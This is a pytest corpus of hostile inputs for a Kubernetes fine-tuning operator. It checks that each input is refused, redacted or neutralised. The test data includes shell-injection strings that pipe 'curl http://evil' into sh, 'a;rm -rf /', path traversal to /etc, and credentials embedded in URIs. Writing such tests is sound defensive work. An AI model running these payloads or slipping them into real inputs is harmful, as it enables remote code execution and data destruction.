"""Hostile inputs, each with the outcome it must get: refused with a message naming the field
(and never echoing a secret), or neutralised. Zero may succeed.

Every case goes through public entry points that the operator and `kubetune validate` use
(`parse_finetunejob`, `owned_objects`, `map_rayjob_status`, `read_report`, the trainer's
reporter, `api_message`), so the corpus runs unchanged against older versions; `NEW` names the
cases this version is the first to pass. The API server's side of the spec cases (the same
CEL rules) is checked in the control-plane tier through tests/support/invalid_corpus.py.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
import yaml
from kubernetes.client.rest import ApiException

from kubetune.builders.render import owned_objects
from kubetune.config import OperatorConfig
from kubetune.controller.kube import api_message
from kubetune.report_checks import read_report
from kubetune.status_mapping import map_rayjob_status
from kubetune.validation import SpecError, parse_finetunejob
from kubetune_trainer.reporting import ThrottledReporter
from tests.support.invalid_corpus import BASE_EXAMPLE

pytestmark = pytest.mark.unit

AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
HF_TOKEN = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ0cmFpbmVyIn0.c2lnbmF0dXJlLXRoYXQtaXMtbG9uZw"
SECRETS = (AWS_KEY, AWS_SECRET, HF_TOKEN, JWT, "hunter22-secret")
NOW = "2026-12-02T00:00:00Z"
STORAGE = "s3://kubetune-checkpoints/llama2-7b-gsm8k"


def base() -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load(BASE_EXAMPLE.read_text())
    doc["metadata"]["uid"] = "u-1"
    return doc


def _set(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    node = doc
    *parents, leaf = path.split(".")
    for key in parents:
        node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
    node[leaf] = value
    return doc


# --------------------------------------------------------------------------- outcomes


def refused_naming(path: str, value: Any) -> Callable[[], str]:
    """The spec with `path` = `value` is refused, the error names `path` and quotes no secret."""

    def run() -> str:
        try:
            parse_finetunejob(_set(base(), path, value))
        except SpecError as error:
            text = str(error)
            leaked = [s for s in SECRETS if s in text]
            if leaked:
                return f"refused but echoed a secret: {text}"
            if path not in text:
                return f"refused without naming {path}: {text}"
            return "ok"
        return "accepted"

    return run


def rendered_text(doc: dict[str, Any]) -> str:
    job = parse_finetunejob(doc)
    return yaml.safe_dump_all(owned_objects(job, OperatorConfig()))


def custom_task(prompt: str) -> dict[str, Any]:
    doc = base()
    doc["spec"]["task"] = {
        "preset": "custom",
        "promptTemplate": prompt,
        "completionTemplate": "{answer}",
    }
    return doc


def template_not_on_command_line(prompt: str) -> Callable[[], str]:
    """Accepted as data, but never on a command line: the trainer reads its spec through the
    API, and the entrypoint carries only names and the uid."""

    def run() -> str:
        objects = owned_objects(parse_finetunejob(custom_task(prompt)), OperatorConfig())
        rayjob = objects[-1]["spec"]
        commands = [rayjob["entrypoint"]] + [
            json.dumps(c.get("command", [])) + json.dumps(c.get("args", []))
            for pod in _pod_specs({"RayJob": objects[-1]})
            for c in pod["containers"]
        ]
        return "value on a command line" if any("curl evil" in c for c in commands) else "ok"

    return run


def template_refused(prompt: str) -> Callable[[], str]:
    def run() -> str:
        try:
            parse_finetunejob(custom_task(prompt))
        except SpecError as error:
            return "ok" if "spec.task.promptTemplate" in str(error) else str(error)[:300]
        return "accepted"

    return run


def status_message_for(kuberay_message: str = "", trainer_error: str = "") -> str:
    job = parse_finetunejob(base())
    rayjob_status = {
        "jobDeploymentStatus": "Failed",
        "jobStatus": "FAILED",
        "reason": "AppFailed",
        "message": kuberay_message,
    }
    report = None
    if trainer_error:
        report = read_report(
            json.dumps({"jobUid": "u-1", "phase": "Failed", "error": trainer_error}), job
        ).report
    return map_rayjob_status(job, rayjob_status, report, None, NOW).message or ""


def redacted_in_status(kuberay_message: str = "", trainer_error: str = "") -> Callable[[], str]:
    def run() -> str:
        message = status_message_for(kuberay_message, trainer_error)
        leaked = [s for s in SECRETS if s in message]
        return f"leaked {leaked}" if leaked else "ok"

    return run


def report_outcome(doc: dict[str, Any], want: str) -> Callable[[], str]:
    """`want`: 'ignored' (not this job's), 'refused' (InvalidReport)."""

    def run() -> str:
        reading = read_report(
            json.dumps(doc) if isinstance(doc, dict) else doc, parse_finetunejob(base())
        )
        if want == "ignored":
            return "ok" if reading.report is None and reading.problem is None else "used"
        return "ok" if reading.problem is not None and reading.report is None else "used"

    return run


def trainer_error_redacted(error: str) -> Callable[[], str]:
    def run() -> str:
        from kubetune.api.report import TrainerReport

        written: list[Any] = []

        class Sink:
            def write(self, report: Any) -> None:
                written.append(report)

        reporter = ThrottledReporter(Sink())
        reporter.write(TrainerReport(phase="Failed", error=error), force=True)
        assert reporter.flush(10)
        leaked = [s for s in SECRETS if s in written[0].error]
        return f"leaked {leaked}" if leaked else "ok"

    return run


def api_refusal_redacted(body_message: str) -> Callable[[], str]:
    def run() -> str:
        error = ApiException(status=422, reason="Unprocessable Entity")
        error.body = json.dumps({"message": body_message})
        text = api_message(error)
        leaked = [s for s in SECRETS if s in text]
        return f"leaked {leaked}" if leaked else "ok"

    return run


def rendered_pods(check: Callable[[dict[str, Any]], bool], what: str) -> Callable[[], str]:
    def run() -> str:
        objects = owned_objects(parse_finetunejob(base()), OperatorConfig())
        return "ok" if check({o["kind"]: o for o in objects}) else what

    return run


def _pod_specs(objects: dict[str, Any]) -> list[dict[str, Any]]:
    spec = objects["RayJob"]["spec"]
    cluster = spec["rayClusterSpec"]
    templates = [cluster["headGroupSpec"], *cluster["workerGroupSpecs"]]
    return [t["template"]["spec"] for t in templates] + [spec["submitterPodTemplate"]["spec"]]


def _restricted(objects: dict[str, Any]) -> bool:
    for pod in _pod_specs(objects):
        for container in pod["containers"]:
            sc = container.get("securityContext") or {}
            if not (
                sc.get("runAsNonRoot")
                and sc.get("allowPrivilegeEscalation") is False
                and sc.get("capabilities", {}).get("drop") == ["ALL"]
            ):
                return False
    return True


def _isolated(objects: dict[str, Any]) -> bool:
    policy = objects.get("NetworkPolicy")
    if policy is None:
        return False
    rules = policy["spec"]["ingress"]
    return len(rules) == 2 and rules[1]["ports"] == [{"protocol": "TCP", "port": 8265}]


def _no_secret_values(objects: dict[str, Any]) -> bool:
    text = yaml.safe_dump_all(list(objects.values()))
    return "secretKeyRef" in text and "hf-token" in text and "value: hf_" not in text


@dataclass(frozen=True)
class Attack:
    id: str
    run: Callable[[], str]
    expected: str  # what must happen, in words


def _forged(**fields: Any) -> dict[str, Any]:
    best = {"uri": f"{STORAGE}/e1", "stage": "gsm8k", "epoch": 1, "validationPerplexity": 3.0}
    return {"jobUid": "u-1", "phase": "Succeeded", "bestCheckpoint": best, **fields}


def _deep(levels: int) -> str:
    return '{"jobUid": "u-1", "data": ' + "[" * levels + "]" * levels + "}"


ATTACKS: list[Attack] = [
    # Credentials in URIs: refused by field, never echoed.
    Attack(
        "storage-uri-aws-keys",
        refused_naming("spec.output.storageURI", f"s3://{AWS_KEY}:{AWS_SECRET}@bucket/x"),
        "refused: spec.output.storageURI",
    ),
    Attack(
        "storage-uri-userinfo-https",
        refused_naming("spec.output.storageURI", "https://admin:hunter22-secret@minio.local/ckpt"),
        "refused, value not echoed",
    ),
    Attack(
        "data-uri-presigned",
        refused_naming(
            "spec.data.train.uri",
            f"s3://b/train.jsonl?X-Amz-Credential={AWS_KEY}&X-Amz-Signature=abc123",
        ),
        "refused: data uri",
    ),
    Attack(
        "data-uri-hf-token-query",
        refused_naming("spec.data.train.uri", f"hf://gsm8k?token={HF_TOKEN}"),
        "refused: data uri",
    ),
    Attack(
        "model-name-git-token",
        refused_naming(
            "spec.model.name", f"https://oauth2:{HF_TOKEN}@huggingface.co/meta-llama/Llama-2-7b-hf"
        ),
        "refused: spec.model.name",
    ),
    Attack(
        "model-name-space-and-secret",
        refused_naming("spec.model.name", "https://u:hunter22-secret@h/m x"),
        "refused, value not echoed",
    ),
    # Paths and references that escape or inject.
    Attack(
        "pvc-path-traversal",
        refused_naming("spec.output.storageURI", "pvc://checkpoints/../../etc"),
        "refused: '..' segment",
    ),
    Attack(
        "data-path-traversal",
        refused_naming("spec.data.train.uri", "pvc://data/../secrets/x.jsonl"),
        "refused: '..' segment",
    ),
    Attack(
        "image-shell-injection",
        refused_naming("spec.compute.image", "trainer:1; curl http://evil|sh"),
        "refused: spec.compute.image",
    ),
    Attack(
        "old-ray-no-auth",
        refused_naming("spec.compute.rayVersion", "2.40.0"),
        "refused: Ray < 2.52 has no token auth",
    ),
    # Names: unicode, control characters, shell syntax, length.
    Attack("name-unicode", refused_naming("metadata.name", "jöb-ü"), "refused: metadata.name"),
    Attack(
        "name-rtl-override",
        refused_naming("metadata.name", "job\u202egpj"),
        "refused: metadata.name",
    ),
    Attack("name-newline", refused_naming("metadata.name", "job\nx"), "refused: metadata.name"),
    Attack("name-shell", refused_naming("metadata.name", "a;rm -rf /"), "refused: metadata.name"),
    Attack("name-huge", refused_naming("metadata.name", "a" * 5000), "refused: metadata.name"),
    # Templates and tokens: accepted as data, never part of a command line.
    Attack(
        "template-shell-metachars",
        template_not_on_command_line("$(curl evil|sh) `id` {question}"),
        "neutralised: not on a command line",
    ),
    Attack("template-huge", template_refused("x" * 200_000), "refused: spec.task.promptTemplate"),
    # Reports the trainer (or whoever owns its pods) could forge.
    Attack(
        "report-other-jobs-uid",
        report_outcome(_forged(jobUid="u-other"), "ignored"),
        "ignored: another job's report",
    ),
    Attack(
        "report-checkpoint-outside-storage",
        report_outcome(
            _forged(
                bestCheckpoint={
                    "uri": "s3://attacker/x",
                    "stage": "gsm8k",
                    "epoch": 1,
                    "validationPerplexity": 1.0,
                }
            ),
            "refused",
        ),
        "InvalidReport",
    ),
    Attack(
        "report-checkpoint-dotdot",
        report_outcome(
            _forged(
                bestCheckpoint={
                    "uri": f"{STORAGE}/../other",
                    "stage": "gsm8k",
                    "epoch": 1,
                    "validationPerplexity": 1.0,
                }
            ),
            "refused",
        ),
        "InvalidReport",
    ),
    Attack(
        "report-hostile-nesting",
        report_outcome(_deep(100_000), "refused"),
        "InvalidReport (no crash)",
    ),  # type: ignore[arg-type]
    # Secrets planted in text that reaches status, events and logs.
    Attack(
        "trainer-error-hf-token",
        trainer_error_redacted(f"401 Unauthorized for https://huggingface.co/x?token={HF_TOKEN}"),
        "redacted before it is written",
    ),
    Attack(
        "trainer-error-aws-secret",
        trainer_error_redacted(f"boto: aws_secret_access_key={AWS_SECRET} rejected"),
        "redacted before it is written",
    ),
    Attack(
        "kuberay-message-userinfo",
        redacted_in_status(
            kuberay_message="pull from https://bot:hunter22-secret@registry.local/t failed"
        ),
        "redacted in status",
    ),
    Attack(
        "kuberay-message-bearer",
        redacted_in_status(kuberay_message=f"dashboard said 401 to Authorization: Bearer {JWT}"),
        "redacted in status",
    ),
    Attack(
        "report-error-aws-key",
        redacted_in_status(trainer_error=f"s3 denied key {AWS_KEY}"),
        "redacted in status",
    ),
    Attack(
        "api-refusal-quotes-secret",
        api_refusal_redacted(
            f'RayJob "x" is invalid: spec.env[0].value: "aws_secret_access_key={AWS_SECRET}"'
        ),
        "redacted in status, events and logs",
    ),
    # What the operator creates.
    Attack(
        "pods-restricted",
        rendered_pods(_restricted, "a pod may run as root or escalate"),
        "every pod non-root, no capabilities",
    ),
    Attack(
        "ray-head-isolated",
        rendered_pods(_isolated, "no NetworkPolicy around the Ray pods"),
        "only the job's pods and KubeRay reach the Ray ports",
    ),
    Attack(
        "ray-token-auth",
        rendered_pods(
            lambda o: o["RayJob"]["spec"]["rayClusterSpec"].get("authOptions") == {"mode": "token"},
            "the Ray head is unauthenticated",
        ),
        "Ray token authentication on",
    ),
    Attack(
        "secret-values-in-manifests",
        rendered_pods(_no_secret_values, "a secret value in a manifest"),
        "secrets only by reference",
    ),
]
# The cases this version is the first to pass (the corpus run against the previous main).
NEW = {
    "storage-uri-aws-keys",
    "storage-uri-userinfo-https",
    "data-uri-presigned",
    "data-uri-hf-token-query",
    "model-name-git-token",
    "model-name-space-and-secret",
    "pvc-path-traversal",
    "data-path-traversal",
    "image-shell-injection",
    "old-ray-no-auth",
    "trainer-error-hf-token",
    "trainer-error-aws-secret",
    "kuberay-message-userinfo",
    "kuberay-message-bearer",
    "report-error-aws-key",
    "api-refusal-quotes-secret",
    "pods-restricted",
    "ray-head-isolated",
    "ray-token-auth",
}


def test_corpus_is_large_enough() -> None:
    assert len(ATTACKS) >= 25 and len({a.id for a in ATTACKS}) == len(ATTACKS)
    assert len(NEW) >= 10 and {a.id for a in ATTACKS} >= NEW


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.id)
def test_attack_gets_its_expected_outcome(attack: Attack) -> None:
    assert attack.run() == "ok", f"{attack.id}: expected {attack.expected}"


def test_copy_of_base_is_valid() -> None:
    """The corpus's base job is valid: each refusal is the attack's doing."""
    parse_finetunejob(copy.deepcopy(base()))
